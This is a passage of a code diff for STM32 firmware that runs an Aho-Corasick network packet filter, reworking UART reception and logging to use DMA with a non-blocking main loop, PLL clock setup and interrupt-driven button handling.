+ * @brief Erro de recepção (overrun, ruído, framing): reinicia o DMA
+ */
+void HAL_UART_ErrorCallback(UART_HandleTypeDef *huart) {
+    if (huart != &huart2) return;
+
+    // Erro de DMA na transmissão não interrompe a recepção
+    uart_log_error(huart);
+    if (huart->RxState != HAL_UART_STATE_READY) return;
+
+    // O HAL aborta a recepção no erro; ela recomeça do início do buffer
+    rx_dma_head = 0;
+    rx_dma_restarts++;
+    start_uart_rx();
+}
+
+/**
+ * @brief Trecho do log transmitido pelo DMA (contexto de interrupção)
+ */
+void HAL_UART_TxCpltCallback(UART_HandleTypeDef *huart) {
+    uart_log_tx_complete(huart);
+}
+
+/**
+ * @brief Entrega ao scanner os bytes recebidos desde a última chamada
+ */
+static void poll_uart_rx(void) {
+    uint16_t head;
+    uint32_t total, restarts;
+
+    __disable_irq();
+    head = rx_dma_head;
+    total = rx_dma_total;
+    restarts = rx_dma_restarts;
+    __enable_irq();
+
+    // Recepção reiniciada: o conteúdo antigo do buffer não vale mais
+    if (restarts != rx_scan_restarts) {
+        rx_scan_restarts = restarts;
+        rx_scan_tail = head;
+        rx_scan_total = total;
+        ac_scanner_reset(&stream_scanner);
+        return;
+    }
+
+    // O DMA deu a volta sobre dados ainda não lidos: descarta o trecho e
+    // recomeça a busca, já que o fluxo não é mais contínuo
+    // (uma volta inteira conta: head == tail não distingue cheio de vazio)
+    if (total - rx_scan_total >= RX_DMA_BUFFER_SIZE) {
+        rx_overruns++;
+        rx_scan_tail = head;
+        rx_scan_total = total;
+        ac_scanner_reset(&stream_scanner);
+        return;
+    }
+    if (total == rx_scan_total) return;
+
+    if (head < rx_scan_tail) {
+        ac_scanner_feed(&stream_scanner, (const char*)rx_dma_buffer + rx_scan_tail,
+                        RX_DMA_BUFFER_SIZE - rx_scan_tail);
+        rx_scan_tail = 0;
+    }
+    ac_scanner_feed(&stream_scanner, (const char*)rx_dma_buffer + rx_scan_tail,
+                    head - rx_scan_tail);
+    rx_scan_tail = head;
+    rx_scan_total = total;
 }
 
 /* USER CODE END 0 */
@@ -370,29 +877,39 @@ int main(void) {
   SystemClock_Config();
 
   /* USER CODE BEGIN SysInit */
+  
+  // SystemClock_Config é o perfil de desempenho gerado pelo .ioc
+  if (CLOCK_PROFILE_DEFAULT != CLOCK_PROFILE_PERFORMANCE) {
+    clock_set_profile(CLOCK_PROFILE_DEFAULT);
+  }
 
   /* USER CODE END SysInit */
 
   /* Initialize all configured peripherals */
   MX_GPIO_Init();
+  MX_DMA_Init();
   MX_USART2_UART_Init();
 
   /* USER CODE BEGIN 2 */
   
+  // Todo o log passa pelo buffer de transmissão por DMA
+  uart_log_init(&huart2);
+  event_log_init();
+  
   // Inicialização do sistema
-  HAL_UART_Transmit(&huart2, (uint8_t*)"\r\n\r\nSTM32F030R8 Network Packet Filter\r\n", 37, 1000);
-  HAL_UART_Transmit(&huart2, (uint8_t*)"Initializing Aho-Corasick filter...\r\n", 38, 1000);
+  uart_log_puts("\r\n\r\nSTM32F030R8 Network Packet Filter\r\n");
+  uart_log_puts("Initializing Aho-Corasick filter...\r\n");
   
   // Inicializa o filtro de pacotes
   init_packet_filter();
   
-  // Indica sistema pronto
-  HAL_GPIO_WritePin(LED_GREEN_GPIO_Port, LED_GREEN_Pin, GPIO_PIN_SET);
-  HAL_Delay(500);
-  HAL_GPIO_WritePin(LED_GREEN_GPIO_Port, LED_GREEN_Pin, GPIO_PIN_RESET);
-
-  UART_Transmit_String("--- Filtro de SPAM Aho-Corasick STM32 ---\r\n");
-  UART_Transmit_String("Inicializando e construindo base de dados de SPAM...\r\n\r\n");
+  // A partir daqui o tráfego recebido também passa pelo filtro
+  start_uart_rx();
+  
+  // Indica sistema pronto; a análise começa depois da sinalização
+  led_start(&led_ready);
+  app_state = APP_ANALYZE;
+  app_due_tick = HAL_GetTick() + led_ready.period_ms;
 
   /* Infinite loop */
   /* USER CODE BEGIN WHILE */
@@ -401,40 +918,16 @@ int main(void) {
 
     /* USER CODE BEGIN 3 */
     
-    // Executa análise completa dos pacotes
-    analyze_all_packets();
-    
-    // Mostra estatísticas finais
-    print_statistics();
-    
-    // Lista padrões carregados
-    HAL_UART_Transmit(&huart2, (uint8_t*)"=== LOADED THREAT PATTERNS ===\r\n", 33, 1000);
-    for (int i = 0; i < packet_filter.pattern_count; i++) {
-        snprintf(output_buffer, sizeof(output_buffer), 
-                 "%2d: '%s'\r\n", i+1, packet_filter.patterns[i]);
-        HAL_UART_Transmit(&huart2, (uint8_t*)output_buffer, strlen(output_buffer), 500);
-    }
-    
-    // Aguarda botão do usuário para reiniciar
-    HAL_UART_Transmit(&huart2, (uint8_t*)"\r\nPress USER button to restart analysis...\r\n\r\n", 46, 1000);
-    
-    // Aguarda botão ser pressionado
-    while (HAL_GPIO_ReadPin(USER_BUTTON_GPIO_Port, USER_BUTTON_Pin) == GPIO_PIN_SET) {
-        // LED heartbeat enquanto aguarda
-        HAL_GPIO_TogglePin(LED_GREEN_GPIO_Port, LED_GREEN_Pin);
-        HAL_Delay(1000);
-    }
+    // Nada aqui bloqueia: tráfego da UART, ocorrências pendentes e a
+    // demonstração avançam um passo por volta. LED, botão e pausas ficam
+    // com o SysTick e o EXTI.
+    poll_uart_rx();
+    drain_event_log();
     
-    // Debounce do botão
-    HAL_Delay(200);
-    while (HAL_GPIO_ReadPin(USER_BUTTON_GPIO_Port, USER_BUTTON_Pin) == GPIO_PIN_RESET) {
-        HAL_Delay(10);
+    // Sem trabalho: dorme até a próxima interrupção (tick, DMA ou botão)
+    if (!app_step()) {
+        __WFI();
     }
-    
-    // Reset das estatísticas para nova análise
-    memset(&stats, 0, sizeof(stats));
-    
-    HAL_UART_Transmit(&huart2, (uint8_t*)"\r\n" "=== RESTARTING ANALYSIS ===\r\n\r\n", 33, 1000);
   }
   /* USER CODE END 3 */
 }
@@ -453,7 +946,10 @@ void SystemClock_Config(void) {
   RCC_OscInitStruct.OscillatorType = RCC_OSCILLATORTYPE_HSI;
   RCC_OscInitStruct.HSIState = RCC_HSI_ON;
   RCC_OscInitStruct.HSICalibrationValue = RCC_HSICALIBRATION_DEFAULT;
-  RCC_OscInitStruct.PLL.PLLState = RCC_PLL_NONE;
+  RCC_OscInitStruct.PLL.PLLState = RCC_PLL_ON;
+  RCC_OscInitStruct.PLL.PLLSource = RCC_PLLSOURCE_HSI;
+  RCC_OscInitStruct.PLL.PLLMUL = RCC_PLL_MUL12;
+  RCC_OscInitStruct.PLL.PREDIV = RCC_PREDIV_DIV1;
   if (HAL_RCC_OscConfig(&RCC_OscInitStruct) != HAL_OK) {
     Error_Handler();
   }
@@ -462,11 +958,11 @@ void SystemClock_Config(void) {
   */
   RCC_ClkInitStruct.ClockType = RCC_CLOCKTYPE_HCLK|RCC_CLOCKTYPE_SYSCLK
                               |RCC_CLOCKTYPE_PCLK1;
-  RCC_ClkInitStruct.SYSCLKSource = RCC_SYSCLKSOURCE_HSI;
+  RCC_ClkInitStruct.SYSCLKSource = RCC_SYSCLKSOURCE_PLLCLK;
   RCC_ClkInitStruct.AHBCLKDivider = RCC_SYSCLK_DIV1;
   RCC_ClkInitStruct.APB1CLKDivider = RCC_HCLK_DIV1;
 
-  if (HAL_RCC_ClockConfig(&RCC_ClkInitStruct, FLASH_LATENCY_0) != HAL_OK) {
+  if (HAL_RCC_ClockConfig(&RCC_ClkInitStruct, FLASH_LATENCY_1) != HAL_OK) {
     Error_Handler();
   }
 }
@@ -500,6 +996,19 @@ static void MX_USART2_UART_Init(void) {
   /* USER CODE END USART2_Init 2 */
 }
 
+/**
+  * Enable DMA controller clock
+  */
+static void MX_DMA_Init(void) {
+  /* DMA controller clock enable */
+  __HAL_RCC_DMA1_CLK_ENABLE();
+
+  /* DMA interrupt init */
+  /* DMA1_Channel4_5_IRQn interrupt configuration */
+  HAL_NVIC_SetPriority(DMA1_Channel4_5_IRQn, 0, 0);
+  HAL_NVIC_EnableIRQ(DMA1_Channel4_5_IRQn);
+}
+
 /**
   * @brief GPIO Initialization Function
   * @param None
@@ -517,8 +1026,8 @@ static void MX_GPIO_Init(void) {
 
   /*Configure GPIO pin : USER_BUTTON_Pin */
   GPIO_InitStruct.Pin = USER_BUTTON_Pin;
-  GPIO_InitStruct.Mode = GPIO_MODE_INPUT;
-  GPIO_InitStruct.Pull = GPIO_PULLUP;
+  GPIO_InitStruct.Mode = GPIO_MODE_IT_RISING;
+  GPIO_InitStruct.Pull = GPIO_NOPULL;
   HAL_GPIO_Init(USER_BUTTON_GPIO_Port, &GPIO_InitStruct);
 
   /*Configure GPIO pin : LED_GREEN_Pin */
@@ -527,6 +1036,10 @@ static void MX_GPIO_Init(void) {
   GPIO_InitStruct.Pull = GPIO_NOPULL;
   GPIO_InitStruct.Speed = GPIO_SPEED_FREQ_LOW;
   HAL_GPIO_Init(LED_GREEN_GPIO_Port, &GPIO_InitStruct);
+
+  /* EXTI interrupt init*/
+  HAL_NVIC_SetPriority(EXTI0_1_IRQn, 0, 0);
+  HAL_NVIC_EnableIRQ(EXTI0_1_IRQn);
 }
 
 /* USER CODE BEGIN 4 */